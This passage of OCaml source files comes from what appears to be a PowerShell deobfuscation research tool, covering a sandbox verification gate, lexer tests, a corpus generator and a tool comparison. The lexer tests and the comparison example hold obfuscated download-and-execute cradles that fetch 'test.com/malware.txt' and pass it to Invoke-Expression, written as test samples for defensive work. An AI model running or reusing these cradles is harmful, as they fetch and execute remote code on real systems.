  String.length rule >= 16 && String.sub rule 0 16 = "recover.dynamic."

let run_log ~opts ~runs text =
  incr runs;
  Sandbox.run_for_verify ~max_steps:opts.max_steps ~timeout_s:opts.timeout_s
    text

(* Reference-log memo for the {e original} script's sandbox run.  The gate
   re-verifies the same input whenever the ladder re-runs a rung, and a
   service sees the same script again and again — but the reference log is
   a pure function of (text, sandbox limits), so it is cached keyed on the
   content digest plus those limits.  Only [Ok] logs are stored: a
   containment error (timeout, step limit hit mid-wall-clock) depends on
   the moment of execution and must not be replayed.  Bounded with
   whole-table reset on overflow, mutex-protected (serve workers share
   it process-wide). *)
let ref_cache : (string, string list) Hashtbl.t = Hashtbl.create 64
let ref_cache_lock = Mutex.create ()
let ref_cache_cap = 512
let m_ref_hits = T.Metrics.counter "verify.ref_cache_hits"

let ref_log ~opts ~runs src =
  if not opts.use_ref_cache then run_log ~opts ~runs src
  else begin
    let key =
      Printf.sprintf "%s:%d:%h"
        (Digest.to_hex (Digest.string src))
        opts.max_steps opts.timeout_s
    in
    Mutex.lock ref_cache_lock;
    let cached = Hashtbl.find_opt ref_cache key in
    Mutex.unlock ref_cache_lock;
    match cached with
    | Some log ->
        (* a hit performs no sandbox execution, so [runs] stays put —
           sandbox_runs counts executions, not answers *)
        T.Metrics.incr m_ref_hits;
        Ok log
    | None -> (
        match run_log ~opts ~runs src with
        | Ok log as ok ->
            Mutex.lock ref_cache_lock;
            if Hashtbl.length ref_cache >= ref_cache_cap then
              Hashtbl.reset ref_cache;
            Hashtbl.replace ref_cache key log;
            Mutex.unlock ref_cache_lock;
            ok
        | Error _ as e -> e)
  end

(* The chaos probe sits inside the comparison itself, so an injected fault
   surfaces as a (spurious) divergence and drives the rollback machinery —
   never an escaped exception.  "verify.diff" is the site name in the
   --chaos grammar. *)
let logs_equal a b =
  match
    Chaos.probe "verify.diff";
    List.equal String.equal a b
  with
  | equal -> equal
  | exception _ -> false

(* Prefix 0 is the original text itself — equivalent by definition and
   never re-evaluated, so an injected diff fault cannot flip the bisection
   anchor.  A prefix whose sandbox run is contained, or that no longer
   parses, counts as divergent. *)
let prefix_equivalent ~opts ~runs ~orig_log ~src stages n =
  match Editlog.replay_prefix ~src stages n with
  | text -> (
      match run_log ~opts ~runs text with
      | Error _ -> false
      | Ok log -> logs_equal orig_log log)
  | exception _ -> false

(* Find one offending rewrite to suppress: binary-search the flattened
   journal for the first edit whose prefix diverges (invariant: lo
   equivalent, hi divergent).  When every journaled edit checks out — or
   there is nothing journaled at all — the remaining rewrite is
   finalization (rename + reformat), which is not an extent edit and gets
   the pseudo-suppression. *)
(* Returns the suppression plus the attribution name of the rolled-back
   rule ([phase ^ "." ^ kind], or ["engine.finalize"] for the
   pseudo-suppression) — the identity {!Quarantine} keys its breakers on. *)
let culprit ~opts ~runs ~orig_log ~src (guarded : Engine.guarded) =
  let stages = guarded.Engine.edit_log in
  let flat = Editlog.flatten stages in
  let total = Array.length flat in
  if total = 0 || prefix_equivalent ~opts ~runs ~orig_log ~src stages total
  then (Editlog.suppress_finalize, "engine.finalize")
  else begin
    let lo = ref 0 and hi = ref total in
    while !hi - !lo > 1 do
      let mid = (!lo + !hi) / 2 in
      if prefix_equivalent ~opts ~runs ~orig_log ~src stages mid then lo := mid
      else hi := mid
    done;
    let e = flat.(!hi - 1) in
    (Editlog.suppress_edit e, e.Editlog.phase ^ "." ^ e.Editlog.kind)
  end

let gate ?(opts = default_opts) ~rerun ~src (guarded : Engine.guarded) =
  T.span "verify.gate" @@ fun () ->
  let started = Guard.now () in
  let runs = ref 0 in
  let finish guarded verdict suppressed rolled_rules =
    let verify_ms = (Guard.now () -. started) *. 1000.0 in
    let dynamic_rolled_back =
      List.length (List.filter is_dynamic_rule rolled_rules)
    in
    T.Metrics.incr (T.Metrics.counter ("verify." ^ verdict_name verdict));
    T.Metrics.incr ~by:!runs (T.Metrics.counter "verify.sandbox_runs");
    T.Metrics.incr ~by:dynamic_rolled_back
      (T.Metrics.counter "verify.dynamic_rolled_back");
    T.Metrics.observe (T.Metrics.histogram "verify.ms") verify_ms;
    if T.active () then
      T.event "verify.verdict"
        ~attrs:
          [ ("verdict", T.S (verdict_name verdict));
            ("sandbox_runs", T.I !runs);
            ("rolled_back", T.I (List.length suppressed)) ];
    (guarded,
     { verdict; sandbox_runs = !runs; suppressed; rolled_rules;
       dynamic_rolled_back; verify_ms })
  in
  if String.equal guarded.Engine.result.Engine.output src then
    (* unchanged output is trivially equivalent; skip the sandbox *)
    finish guarded Equivalent [] []
  else
    match Psparse.Parser.parse src with
    | Error _ ->
        (* covers the partial-parse (region) path too, whose edits are not
           journaled and could not be bisected *)
        finish guarded (Unverifiable "original does not parse") [] []
    | Ok _ -> (
        match ref_log ~opts ~runs src with
        | Error reason ->
            finish guarded (Unverifiable ("original: " ^ reason)) [] []
        | Ok orig_log ->
            let rec round guarded suppressed rolled_rules rounds_left =
              let diverged () =
                if rounds_left = 0 then
                  finish guarded Diverged suppressed rolled_rules
                else
                  let sup, rule = culprit ~opts ~runs ~orig_log ~src guarded in
                  if List.mem sup suppressed then
                    (* the suppression did not remove the divergence (or
                       chaos keeps forcing one): stop rather than loop *)
                    finish guarded Diverged suppressed rolled_rules
                  else begin
                    if T.active () then
                      T.event "verify.rollback"
                        ~attrs:[ ("edit", T.S (Editlog.describe sup)) ];
                    let suppressed = sup :: suppressed in
                    let rolled_rules =
                      if List.mem rule rolled_rules then rolled_rules
                      else rule :: rolled_rules
                    in
                    round (rerun ~suppress:suppressed) suppressed rolled_rules
                      (rounds_left - 1)
                  end
              in
              let equal_now =
                (* an output equal to the input (everything rolled back) is
                   trivially equivalent — decided without the sandbox or
                   the (possibly fault-injected) differ *)
                String.equal guarded.Engine.result.Engine.output src
                ||
                match
                  run_log ~opts ~runs guarded.Engine.result.Engine.output
                with
                | Ok out_log -> logs_equal orig_log out_log
                | Error _ -> false
              in
              if equal_now then
                if suppressed = [] then finish guarded Equivalent [] []
                else
                  finish guarded
                    (Rolled_back (List.length suppressed))
                    suppressed rolled_rules
              else diverged ()
            in
            round guarded [] [] opts.max_rounds)

let run_guarded ?options ?timeout_s ?max_output_bytes ?opts src =
  let rerun ~suppress =
    Engine.run_guarded ?options ?timeout_s ?max_output_bytes ~suppress src
  in
  gate ?opts ~rerun ~src (rerun ~suppress:[])
