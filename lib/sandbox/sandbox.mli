(** Behaviour sandbox (the TianQiong substitute, paper §IV-C3): runs a
    script with side effects recorded as events, and compares network
    behaviour between scripts. *)

type report = {
  events : Pseval.Env.event list;
  output : Psvalue.Value.t list;
  host_output : Psvalue.Value.t list;  (** what Write-Host printed *)
  error : string option;  (** execution error, if any; events are kept *)
  failure : Pscommon.Guard.failure option;
      (** set when the run was contained by the guard (stack overflow,
          deadline, stray exception) rather than finishing *)
}

val run : ?max_steps:int -> ?timeout_s:float -> string -> report
(** Never raises: execution is guarded, and a contained crash or overrun
    keeps the events recorded up to that point. *)

val is_network_event : Pseval.Env.event -> bool

val network_signature : report -> string list
(** The sorted, deduplicated set of network events — the unit of comparison
    for behavioural consistency. *)

val has_network_behavior : report -> bool

val same_network_behavior : report -> report -> bool

val effective : original:string -> deobfuscated:string -> bool
(** The paper's effectiveness rule: the tool changed the script {e and}
    network behaviour is preserved (§IV-C3 does not count results equal to
    the input). *)
