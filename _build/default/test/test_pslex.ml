(* Tests for the mode-aware PowerShell tokenizer. *)

module T = Pslex.Token

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let toks src = Pslex.Lexer.tokenize_exn src

let kinds src =
  List.filter_map
    (fun t ->
      match t.T.kind with
      | T.New_line -> None
      | k -> Some (T.kind_name k))
    (toks src)

let contents src =
  List.filter_map
    (fun t -> if t.T.kind = T.New_line then None else Some t.T.content)
    (toks src)

let check_kinds name src expected = Alcotest.(check (list string)) name expected (kinds src)

let test_command_and_args () =
  check_kinds "simple" "write-host hello"
    [ "Command"; "CommandArgument" ];
  check_kinds "parameter" "cmd -Name value"
    [ "Command"; "CommandParameter"; "CommandArgument" ];
  check_kinds "param with colon" "cmd -Name:value"
    [ "Command"; "CommandParameter"; "CommandArgument" ]

let test_pipeline_resets_context () =
  check_kinds "pipe" "'x' | measure-object"
    [ "StringSingle"; "Operator"; "Command" ]

let test_strings () =
  let t = List.hd (toks "'it''s'") in
  check_s "single quote escape" "it's" t.T.content;
  let t = List.hd (toks "\"a`tb\"") in
  check_s "backtick tab" "a\tb" t.T.content;
  let t = List.hd (toks "\"say \"\"hi\"\"\"") in
  check_s "double double quote" "say \"hi\"" t.T.content

let test_here_strings () =
  let src = "@'\nline1\nline2\n'@" in
  let t = List.hd (toks src) in
  check_s "here content" "line1\nline2" t.T.content;
  check_b "kind" true (t.T.kind = T.String_single_here)

let test_ticked_command () =
  let t = List.hd (toks "iN`v`oKe-eXpReSsIoN") in
  check_b "kind command" true (t.T.kind = T.Command);
  check_s "ticks removed in content" "iNvoKe-eXpReSsIoN" t.T.content;
  check_s "text keeps ticks" "iN`v`oKe-eXpReSsIoN" t.T.text

let test_backtick_literal_escape_outside_strings () =
  (* `b outside a double-quoted string is literal 'b', not backspace *)
  let t = List.hd (toks "we`bclient") in
  check_s "literal escape" "webclient" t.T.content

let test_variables () =
  check_s "plain" "x" (List.hd (toks "$x")).T.content;
  check_s "scoped env" "env:comspec" (List.hd (toks "$env:comspec")).T.content;
  check_s "braced" "a b" (List.hd (toks "${a b}")).T.content;
  check_s "underscore" "_" (List.hd (toks "$_")).T.content;
  check_b "splat kind" true ((List.hd (toks "@params")).T.kind = T.Splat_variable)

let test_numbers () =
  check_s "int" "42" (List.hd (toks "42")).T.content;
  check_s "hex" "0x4B" (List.hd (toks "0x4B")).T.content;
  check_s "float" "3.14" (List.hd (toks "3.14")).T.content;
  check_s "kb suffix" "4kb" (List.hd (toks "4kb")).T.content;
  check_b "number kind" true ((List.hd (toks "42")).T.kind = T.Number)

let test_type_literals () =
  let t = List.hd (toks "[System.Text.Encoding]") in
  check_b "type kind" true (t.T.kind = T.Type_name);
  check_s "inner name" "System.Text.Encoding" t.T.content;
  let t = List.hd (toks "[char[]]") in
  check_s "array type" "char[]" t.T.content

let test_index_vs_type () =
  (* after a value, '[' is indexing *)
  check_kinds "indexing" "$a[0]"
    [ "Variable"; "IndexStart"; "Number"; "IndexEnd" ];
  (* chained casts keep being types *)
  check_kinds "cast chain" "[string][char]39"
    [ "Type"; "Type"; "Number" ]

let test_member_access () =
  check_kinds "instance member" "$a.Length"
    [ "Variable"; "Operator"; "Member" ];
  check_kinds "static member" "[Convert]::FromBase64String"
    [ "Type"; "Operator"; "Member" ];
  check_kinds "member with space after dot" "$a. Length"
    [ "Variable"; "Operator"; "Member" ]

let test_dash_operators () =
  check_kinds "format" {|"{0}" -f 'a'|} [ "StringDouble"; "Operator"; "StringSingle" ];
  check_s "case normalised" "-bxor" (List.nth (toks "$_ -BxOr 1") 1).T.content;
  (* in argument position a dash-word is a parameter *)
  check_kinds "param not op" "cmd -join" [ "Command"; "CommandParameter" ]

let test_keywords () =
  check_kinds "if keyword" "if ($a) { 1 }"
    [ "Keyword"; "GroupStart"; "Variable"; "GroupEnd"; "GroupStart"; "Number"; "GroupEnd" ];
  (* keywords only at command position *)
  check_kinds "if as argument" "write-host if" [ "Command"; "CommandArgument" ]

let test_assignment_rhs_is_command () =
  check_kinds "rhs command" "$x = write-host hello"
    [ "Variable"; "Operator"; "Command"; "CommandArgument" ]

let test_percent_alias () =
  check_kinds "foreach alias" "1 | % { $_ }"
    [ "Number"; "Operator"; "Command"; "GroupStart"; "Variable"; "GroupEnd" ]

let test_range_operator () =
  check_kinds "range" "1..5" [ "Number"; "Operator"; "Number" ];
  check_kinds "negative range" "'x'[-1..-5]"
    [ "StringSingle"; "IndexStart"; "Operator"; "Number"; "Operator"; "Operator"; "Number"; "IndexEnd" ]

let test_groups () =
  check_kinds "subexpr" "$(1)" [ "GroupStart"; "Number"; "GroupEnd" ];
  check_kinds "array expr" "@(1)" [ "GroupStart"; "Number"; "GroupEnd" ];
  check_kinds "hash" "@{a=1}"
    [ "GroupStart"; "Member"; "Operator"; "Number"; "GroupEnd" ]

let test_comments () =
  check_kinds "line comment" "1 # rest" [ "Number"; "Comment" ];
  check_kinds "block comment" "<# x #> 2" [ "Comment"; "Number" ];
  (* '#' inside a bareword does not start a comment *)
  check_s "hash in word" "a#b" (List.nth (contents "echo a#b") 1)

let test_line_continuation () =
  check_kinds "continuation" "1 `\n+ 2"
    [ "Number"; "LineContinuation"; "Operator"; "Number" ]

let test_extents_cover_source () =
  let src = "(nEw-oBjEcT Net.WebClient).downloadstring('http://x')" in
  List.iter
    (fun t ->
      check_s "text = extent slice" t.T.text (Pscommon.Extent.text src t.T.extent))
    (toks src)

let test_call_operators () =
  check_kinds "amp string" "& 'iex' 'arg'"
    [ "Operator"; "StringSingle"; "StringSingle" ];
  check_kinds "dot paren" ". ($x) 'arg'"
    [ "Operator"; "GroupStart"; "Variable"; "GroupEnd"; "StringSingle" ]

let test_errors () =
  List.iter
    (fun src ->
      check_b ("rejects " ^ src) true
        (match Pslex.Lexer.tokenize src with Error _ -> true | Ok _ -> false))
    [ "'unterminated"; "\"unterminated"; "@'\nnoend"; "<# no end" ]

let test_aliases_table () =
  Alcotest.(check (option string)) "iex" (Some "Invoke-Expression")
    (Pslex.Aliases.resolve "IEX");
  Alcotest.(check (option string)) "gci" (Some "Get-ChildItem")
    (Pslex.Aliases.resolve "gci");
  Alcotest.(check (option string)) "percent" (Some "ForEach-Object")
    (Pslex.Aliases.resolve "%");
  Alcotest.(check (option string)) "not alias" None (Pslex.Aliases.resolve "write-host");
  check_b "aliases_of" true (List.mem "iex" (Pslex.Aliases.aliases_of "invoke-expression"));
  Alcotest.(check (option string)) "canonical case" (Some "Invoke-Expression")
    (Pslex.Aliases.canonical_case "invoke-expression")

let test_keyword_table () =
  check_b "if" true (Pslex.Lexer.is_keyword "IF");
  check_b "not keyword" false (Pslex.Lexer.is_keyword "iex");
  check_i "dash ops nonempty" 1 (min 1 (List.length Pslex.Lexer.dash_operators))

(* listing 2 from the paper must tokenize *)
let test_paper_listing2 () =
  let src = "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng('https://test.com/malware.txt')" in
  let cs = contents src in
  check_b "has command" true (List.mem "nEw-oBjECt" cs);
  check_b "has member" true (List.mem "DoWNlOaDsTrIng" cs)

let prop_tokens_reconstruct_source =
  (* concatenating token texts with original gaps reproduces the source *)
  QCheck.Test.make ~name:"lexer: extents tile the source" ~count:100
    (QCheck.make
       (QCheck.Gen.oneofl
          [ "write-host hello"; "$a = 1 + 2"; "('a'+'b') | iex";
            "[char]104"; "foreach ($x in 1..3) { $x }";
            "@{k='v'}; $env:temp" ]))
    (fun src ->
      match Pslex.Lexer.tokenize src with
      | Error _ -> false
      | Ok toks ->
          List.for_all
            (fun t -> Pscommon.Extent.text src t.T.extent = t.T.text)
            toks)

let suite =
  [
    ("command and args", `Quick, test_command_and_args);
    ("pipeline resets context", `Quick, test_pipeline_resets_context);
    ("strings", `Quick, test_strings);
    ("here-strings", `Quick, test_here_strings);
    ("ticked command", `Quick, test_ticked_command);
    ("backtick literal escape", `Quick, test_backtick_literal_escape_outside_strings);
    ("variables", `Quick, test_variables);
    ("numbers", `Quick, test_numbers);
    ("type literals", `Quick, test_type_literals);
    ("index vs type", `Quick, test_index_vs_type);
    ("member access", `Quick, test_member_access);
    ("dash operators", `Quick, test_dash_operators);
    ("keywords", `Quick, test_keywords);
    ("assignment rhs command", `Quick, test_assignment_rhs_is_command);
    ("percent alias", `Quick, test_percent_alias);
    ("range operator", `Quick, test_range_operator);
    ("groups", `Quick, test_groups);
    ("comments", `Quick, test_comments);
    ("line continuation", `Quick, test_line_continuation);
    ("extents cover source", `Quick, test_extents_cover_source);
    ("call operators", `Quick, test_call_operators);
    ("lex errors", `Quick, test_errors);
    ("alias table", `Quick, test_aliases_table);
    ("keyword table", `Quick, test_keyword_table);
    ("paper listing 2", `Quick, test_paper_listing2);
    QCheck_alcotest.to_alcotest prop_tokens_reconstruct_source;
  ]
