test/test_corpus.ml: Alcotest Corpus Filename In_channel Keyinfo List Pscommon Pseval Psparse Rng Sandbox Strcase String Sys
