type edit = { extent : Extent.t; replacement : string }

let edit extent replacement = { extent; replacement }

let sort_edits edits =
  List.sort (fun a b -> Extent.compare a.extent b.extent) edits

(* Drop edits strictly nested inside an earlier (outer) edit; raise on partial
   overlap.  Input must be sorted by extent. *)
let resolve_nesting ~allow_nested edits =
  let rec loop acc = function
    | [] -> List.rev acc
    | e :: rest -> (
        match acc with
        | prev :: _ when Extent.contains prev.extent e.extent ->
            if allow_nested then loop acc rest
            else invalid_arg "Patch.apply: nested edits"
        | prev :: _ when Extent.overlaps prev.extent e.extent ->
            invalid_arg "Patch.apply: partially overlapping edits"
        | _ -> loop (e :: acc) rest)
  in
  loop [] edits

let apply_resolved src edits =
  let buf = Buffer.create (String.length src) in
  let pos =
    List.fold_left
      (fun pos e ->
        if e.extent.Extent.stop > String.length src then
          invalid_arg "Patch.apply: extent outside source";
        Buffer.add_substring buf src pos (e.extent.Extent.start - pos);
        Buffer.add_string buf e.replacement;
        e.extent.Extent.stop)
      0 edits
  in
  Buffer.add_substring buf src pos (String.length src - pos);
  Buffer.contents buf

let normalize edits = resolve_nesting ~allow_nested:true (sort_edits edits)

let apply src edits = apply_resolved src (normalize edits)

let apply_exn_on_nested src edits =
  apply_resolved src (resolve_nesting ~allow_nested:false (sort_edits edits))
