(* Tool comparison on the paper's case study (Fig 7 / Fig 8): run the same
   L1+L2+L3 sample through all five tools and inspect how each one fails or
   succeeds, then verify behavioural consistency in the sandbox.

   Run with:  dune exec examples/tool_comparison.exe *)

let case =
  "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
   $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
   $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
   $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
   .($psHoME[4]+$PSHOME[30]+'x') ((nEw-oBJeCt Net.WebClient).downloadstring($sdfs))"

let () =
  print_endline "=== the case script (paper Fig 7a) ===";
  print_endline case;
  print_newline ();
  let reference = Sandbox.run case in
  Printf.printf "reference network behaviour: %s\n\n"
    (String.concat ", " (Sandbox.network_signature reference));
  List.iter
    (fun tool ->
      let out = (tool.Baselines.Tool.deobfuscate case).Baselines.Tool.result in
      let report = Sandbox.run out in
      let consistent = Sandbox.same_network_behavior reference report in
      let valid = Psparse.Parser.is_valid_syntax out in
      Printf.printf "=== %s (syntax %s, behaviour %s) ===\n%s\n\n"
        tool.Baselines.Tool.name
        (if valid then "valid" else "INVALID")
        (if consistent then "consistent" else "CHANGED")
        (String.trim out))
    Baselines.All_tools.all
