(** The five tools of the paper's comparison, in its ordering. *)

let invoke_deobfuscation =
  {
    Tool.name = "Invoke-Deobfuscation";
    deobfuscate =
      (fun script ->
        let result = Deobf.Engine.run script in
        Tool.plain result.Deobf.Engine.output);
  }

(* every compared tool runs guarded: one hostile sample degrades that
   tool's result, never the comparison run *)
let baselines =
  List.map
    (fun t -> Tool.guard t)
    [ Psdecode.tool; Powerdrive.tool; Powerdecode.tool; Li_etal.tool ]

let all = baselines @ [ Tool.guard invoke_deobfuscation ]

let by_name name =
  List.find_opt (fun t -> Pscommon.Strcase.equal t.Tool.name name) all
