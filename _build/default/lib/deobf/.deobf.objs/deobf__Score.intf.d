lib/deobf/score.mli:
