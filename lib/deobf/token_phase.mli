(** Token parsing phase (paper §III-A): recovery of L1 obfuscation from
    token attributes — ticking, aliases, random case, line continuations —
    replaced strictly in place. *)

val run :
  ?log:Editlog.t -> ?pass:int -> ?suppress:Editlog.suppression list ->
  string -> string
(** Returns the input unchanged when it does not lex, or when the patched
    result would not parse (paper §IV-A).  [log] journals every applied
    edit (phase ["token"]) once the result is validated; [suppress] skips
    edits rolled back by the semantic gate. *)

val run_shared :
  ?log:Editlog.t -> ?pass:int -> ?suppress:Editlog.suppression list ->
  string -> (string * Psast.Ast.t) option
(** Like {!run}, but distinguishes "changed nothing" ([None]) and returns
    the validated parse of the changed result, so a fixpoint driver can
    skip its own re-parse and re-check. *)

val canonical_member : string -> string
(** Canonical spelling of a known member name ([replace] → [Replace]). *)

val canonical_type : string -> string
(** Canonical spelling of a known type name
    ([text.encoding] → [Text.Encoding]). *)
