lib/experiments/table3.ml: Baselines Corpus Keyinfo List Printf
