(** Writing generated corpora to disk.

    The paper releases its 39,713-sample dataset alongside the tool; this
    module materialises our synthetic equivalent as [.ps1] files with a
    manifest carrying ground truth (clean source, techniques applied), so
    external tooling can consume it. *)

let ensure_dir path =
  if not (Sys.file_exists path) then Sys.mkdir path 0o755

let write_file path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let escape_json s =
  let buf = Buffer.create (String.length s + 8) in
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string buf "\\\""
      | '\\' -> Buffer.add_string buf "\\\\"
      | '\n' -> Buffer.add_string buf "\\n"
      | '\r' -> Buffer.add_string buf "\\r"
      | '\t' -> Buffer.add_string buf "\\t"
      | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let manifest_entry (s : Generator.sample) =
  Printf.sprintf
    "  {\"id\": %d, \"family\": \"%s\", \"obfuscated\": \"sample_%04d.ps1\", \
     \"clean\": \"clean_%04d.ps1\", \"techniques\": [%s], \"bytes\": %d}"
    s.Generator.id (escape_json s.Generator.family) s.Generator.id
    s.Generator.id
    (String.concat ", "
       (List.map
          (fun t -> Printf.sprintf "\"%s\"" (Obfuscator.Technique.name t))
          s.Generator.techniques))
    (String.length s.Generator.obfuscated)

(** Write samples under [dir]: [sample_NNNN.ps1] (obfuscated),
    [clean_NNNN.ps1] (ground truth) and [manifest.json]. *)
let write ~dir samples =
  ensure_dir dir;
  List.iter
    (fun (s : Generator.sample) ->
      write_file
        (Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.Generator.id))
        s.Generator.obfuscated;
      write_file
        (Filename.concat dir (Printf.sprintf "clean_%04d.ps1" s.Generator.id))
        s.Generator.clean)
    samples;
  let manifest =
    "[\n" ^ String.concat ",\n" (List.map manifest_entry samples) ^ "\n]\n"
  in
  write_file (Filename.concat dir "manifest.json") manifest;
  List.length samples
