(** Materialise a generated corpus on disk: [sample_NNNN.ps1],
    [clean_NNNN.ps1] ground truth and a [manifest.json] with family and
    technique labels. *)

val write : dir:string -> Generator.sample list -> int
(** Writes the samples; returns how many.  Creates [dir] if missing. *)
