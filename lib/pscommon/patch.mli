(** In-place text patching.

    The reconstruction phase of the deobfuscator collects [(extent,
    replacement)] edits against the original script and applies them all at
    once.  Applying from the end of the text backwards keeps earlier extents
    valid, which is what lets replacement happen strictly {e in place}. *)

type edit = { extent : Extent.t; replacement : string }

val edit : Extent.t -> string -> edit

val normalize : edit list -> edit list
(** The edits {!apply} would actually perform, in application order: sorted
    by start offset, with edits nested inside an earlier (outer) edit
    dropped.  The returned records are physically the input records, so
    callers can correlate auxiliary data by identity.
    @raise Invalid_argument on partially overlapping edits. *)

val apply : string -> edit list -> string
(** [apply src edits] replaces every extent with its replacement.  Edits may
    be given in any order; they are sorted by start offset.  Overlapping
    edits are resolved by keeping the {e outermost} edit and dropping edits
    nested inside it (an outer recovery already covers its children); edits
    that partially overlap raise.

    @raise Invalid_argument on partially overlapping edits or extents outside
    [src]. *)

val apply_exn_on_nested : string -> edit list -> string
(** Like {!apply} but raises on any overlap, including full nesting.  Used by
    tests to assert that a recovery pass never produces conflicting edits. *)
