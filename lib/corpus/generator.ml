(** Wild-corpus generation.

    Each sample couples a clean template instance with its obfuscated form
    (per the paper's Table I level distribution) and remembers the applied
    techniques — the ground truth the wild corpus never has, used by the
    experiment harnesses for Fig 5's "manual deobfuscation" baseline. *)

open Pscommon

type sample = {
  id : int;
  family : string;  (** template name *)
  clean : string;  (** pre-obfuscation script *)
  obfuscated : string;
  techniques : Obfuscator.Technique.t list;
}

let generate_sample rng id =
  let family, clean = Templates.generate rng in
  let obfuscated, techniques = Obfuscator.Obfuscate.wild_mix rng clean in
  { id; family; clean; obfuscated; techniques }

let generate ~seed ~count =
  let rng = Rng.of_int seed in
  List.init count (fun id -> generate_sample (Rng.split rng) id)

(** Samples restricted to a byte-size window, like the paper's 100-sample
    selection (97 B – 2 KB) for Fig 5 / Fig 6 / Table IV. *)
let generate_sized ~seed ~count ~min_bytes ~max_bytes =
  let rng = Rng.of_int seed in
  let rec collect acc id attempts =
    if List.length acc >= count || attempts > count * 50 then List.rev acc
    else
      let s = generate_sample (Rng.split rng) id in
      let n = String.length s.obfuscated in
      if n >= min_bytes && n <= max_bytes then
        collect (s :: acc) (id + 1) (attempts + 1)
      else collect acc id (attempts + 1)
  in
  collect [] 0 0

(** Larger, heavily obfuscated samples for the mitigation experiment
    (Table V selects the highest-scoring wild samples — multi-template
    scripts with stacked layers and embedded binary payloads). *)
let generate_hard ~seed ~count =
  let rng = Rng.of_int seed in
  List.init count (fun id ->
      let sub = Rng.split rng in
      let scripts =
        List.init (Rng.int_in sub 2 5) (fun _ -> snd (Templates.generate sub))
      in
      let clean = String.concat "\n" scripts in
      (* the heavily obfuscated wild samples come out of launcher-equipped
         obfuscation frameworks, which never spell Invoke-Expression out *)
      let obfuscated, techniques =
        Obfuscator.Obfuscate.wild_mix ~launcher:`Obfuscated sub clean
      in
      { id; family = "hard-mix"; clean; obfuscated; techniques })

(** Samples obfuscated with exactly one dynamic-assembly technique
    (loop-carried build, accumulator fold, conditional payload selection) —
    shapes only the provenance-guided dynamic recovery stage can undo.
    Techniques cycle round-robin; a template with no eligible literal
    assignment is re-drawn until the technique visibly fired, so every
    sample really contains a dynamic region. *)
let generate_dynamic ~seed ~count =
  let rng = Rng.of_int seed in
  let techniques = Obfuscator.Technique.dynamic in
  List.init count (fun id ->
      let sub = Rng.split rng in
      let technique = List.nth techniques (id mod List.length techniques) in
      let rec pick tries =
        let family, clean = Templates.generate sub in
        let obfuscated = Obfuscator.Obfuscate.apply sub technique clean in
        if (not (String.equal obfuscated clean)) || tries = 0 then
          (family, clean, obfuscated)
        else pick (tries - 1)
      in
      let family, clean, obfuscated = pick 20 in
      { id; family; clean; obfuscated; techniques = [ technique ] })

(** Multi-layer samples: the clean script wrapped in [depth] stacked L3
    layers (Table III uses 12 such samples). *)
let generate_multilayer ~seed ~count ~min_depth ~max_depth =
  let rng = Rng.of_int seed in
  List.init count (fun id ->
      let sub = Rng.split rng in
      (* the unwrap experiment needs indicators to check for, so insist on
         a template that carries at least one *)
      let rec pick tries =
        let family, clean = Templates.generate sub in
        if Keyinfo.count (Keyinfo.extract clean) > 0 || tries = 0 then
          (family, clean)
        else pick (tries - 1)
      in
      let family, clean = pick 10 in
      let depth = Rng.int_in sub min_depth max_depth in
      let obfuscated = Obfuscator.Obfuscate.multilayer sub depth clean in
      { id; family; clean; obfuscated; techniques = [] })
