(** The [-f] format operator (.NET composite formatting).

    Covers what obfuscation uses: [{index}], [{index,alignment}],
    [{index:format}] with [D]/[X]/[N] numeric formats, and [{{]/[}}]
    escapes.  String reordering ("{2}{0}{1}" -f …) is the paper's canonical
    L2 technique. *)

exception Format_error of string

val format : string -> Value.t list -> string
(** @raise Format_error on out-of-range indices or unclosed items. *)

val apply_numeric_format : string -> Value.t -> string
(** One format specifier ([X2], [D3], [N1]) applied to a value. *)
