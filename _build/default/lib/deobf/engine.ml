(** Invoke-Deobfuscation — the full pipeline (paper Fig 2).

    Phases: token parsing → variable tracing & recovery based on AST
    (repeated to a fixpoint, unwrapping Invoke-Expression layers) → renaming
    and reformatting.  Each phase's output is syntax-checked and the phase
    is skipped when it breaks the script. *)

type options = {
  token_phase : bool;
  recovery : recovery_options;
  rename : bool;
  reformat : bool;
  max_iterations : int;  (** fixpoint bound for the recovery loop *)
}

and recovery_options = Recover.options = {
  use_tracing : bool;
  use_blocklist : bool;
  use_multilayer : bool;
  max_depth : int;
  piece_step_budget : int;
}

let default_options =
  { token_phase = true; recovery = Recover.default_options; rename = true;
    reformat = true; max_iterations = 8 }

type result = {
  output : string;
  stats : Recover.stats;
  iterations : int;
  changed : bool;  (** false when the tool returned the input unchanged *)
}

(* an IEX invocation whose payload is not a plain literal: the code it will
   run at run time is invisible to renaming *)
let residual_dynamic_iex src =
  match Psparse.Parser.parse src with
  | Error _ -> true
  | Ok ast ->
      let module A = Psast.Ast in
      let is_iex_name s =
        Pscommon.Strcase.equal s "iex"
        || Pscommon.Strcase.equal s "invoke-expression"
      in
      let found = ref false in
      A.iter_post_order
        (fun n ->
          match n.A.node with
          | A.Command cmd -> (
              let name_is_iex =
                match cmd.A.cmd_elements with
                | A.Elem_name { A.node = A.String_const (s, _); _ } :: _ ->
                    is_iex_name s
                | A.Elem_name
                    { A.node =
                        A.Paren_expr
                          { A.node =
                              A.Pipeline
                                [ { A.node =
                                      A.Command_expression
                                        { A.node = A.String_const (s, _); _ };
                                    _ } ];
                            _ };
                      _ }
                  :: _ ->
                    is_iex_name s
                | _ -> false
              in
              if name_is_iex then
                let risky_arg =
                  List.exists
                    (function
                      | A.Elem_argument { A.node = A.String_const _; _ } ->
                          false
                      | A.Elem_argument a ->
                          (* dynamic payloads built from local variables can
                             name variables at run time; payloads with no
                             local reads (e.g. downloads) cannot *)
                          List.exists
